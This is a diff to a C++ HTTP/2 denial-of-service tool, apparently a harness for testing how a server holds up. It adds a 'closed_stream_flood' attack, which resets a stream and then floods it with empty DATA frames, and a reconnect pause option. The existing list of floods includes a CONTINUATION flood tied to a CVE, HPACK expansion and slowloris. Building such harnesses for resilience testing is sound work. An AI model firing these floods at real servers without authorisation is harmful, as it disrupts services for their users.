@@ -11,6 +11,8 @@
 //   settings_flood       empty SETTINGS frames (each asks for an ACK)
 //   window_update_flood  WINDOW_UPDATE(connection, +1) frames
 //   empty_data_flood     one open stream, then DATA frames with no payload and no END_STREAM
+//   closed_stream_flood  a stream opened and reset, then empty DATA frames on it (frames a server
+//                        may drop without looking: they still cost a read and a parse)
 //   continuation_flood   HEADERS without END_HEADERS, then CONTINUATION frames (CVE-2024-28182)
 //   hpack_bloat          per stream, a header block that HPACK expands past any metadata limit
 //                        (a 4000-byte entry indexed, then referenced 4000 times: 8 KB -> 16 MB)
@@ -19,9 +21,9 @@
 //   headers_stall        HEADERS without END_HEADERS, then silence
 //   slowloris            --connections N (default 50) that send the preface one byte a second
 //
-// With --reconnect 1, a closed connection is replaced by a new one and the attack goes on until
-// --seconds are up (an attacker does not give up): the figure then is how the server's other
-// callers fare while it sheds attacking connections again and again.
+// With --reconnect 1, a closed connection is replaced by a new one (after --pause-ms, default 0)
+// and the attack goes on until --seconds are up (an attacker does not give up): the figure then
+// is how the server's other callers fare while it sheds attacking connections again and again.
 // The attacker reads everything the server sends (ACKing its SETTINGS once, as clients must) and
 // prints one line when the time is up or every connection is closed:
 //   attack=NAME frames=F closed=C of=N goaway=CODE first_close_ms=T last_close_ms=T
@@ -229,6 +231,7 @@ struct Options {
   int connections = 50;
   int streams = 2000;
   bool reconnect = false;
+  int pause_ms = 0;
 };
 
 // Sends `batch` again and again on `c` until the time is up or the server closes.
@@ -291,6 +294,11 @@ long attack_once(const Options& o, Connection& c, Clock::time_point until) {
   if (a == "empty_data_flood") {
     c.send(frame(kHeaders, kEndHeaders, 1, request_block()), until);
     return 1 + flood(c, repeat(frame(kData, 0, 1, ""), 100), 100, until);
+  }
+  if (a == "closed_stream_flood") {
+    c.send(frame(kHeaders, kEndHeaders, 1, request_block()) + frame(kRstStream, 0, 1, u32(8)),
+           until);
+    return 2 + flood(c, repeat(frame(kData, 0, 1, ""), 100), 100, until);
   }
   if (a == "continuation_flood") {
     c.send(frame(kHeaders, 0, 1, request_block()), until);
@@ -362,6 +370,7 @@ int run(const Options& o) {
       // Done with that one: keep its outcome, free its reader thread.
       outcomes_.push_back({cs.back()->closed_ms(), cs.back()->goaway()});
       cs.pop_back();
+      std::this_thread::sleep_for(std::chrono::milliseconds(o.pause_ms));
     }
   }
   wait_closed(cs, until);
@@ -402,16 +411,19 @@ int main(int argc, char** argv) {
       o.streams = std::atoi(v.c_str());
     } else if (k == "--reconnect") {
       o.reconnect = v == "1";
+    } else if (k == "--pause-ms") {
+      o.pause_ms = std::atoi(v.c_str());
     } else {
       std::fprintf(stderr, "curfew-h2-attack: unknown option %s\n", k.c_str());
       return 2;
     }
   }
   if (o.port <= 0 || o.attack.empty() || o.seconds <= 0 || o.seconds > 600 || o.connections < 1 ||
-      o.connections > 10000 || o.streams < 1 || o.streams > 100000) {
+      o.connections > 10000 || o.streams < 1 || o.streams > 100000 || o.pause_ms < 0 ||
+      o.pause_ms > 10000) {
     std::fprintf(stderr,
                  "usage: curfew-h2-attack --port P --attack NAME [--host H] [--seconds S] "
-                 "[--connections N] [--streams N] [--reconnect 1]\n");
+                 "[--connections N] [--streams N] [--reconnect 1] [--pause-ms N]\n");
     return 2;
   }
   return run(o);
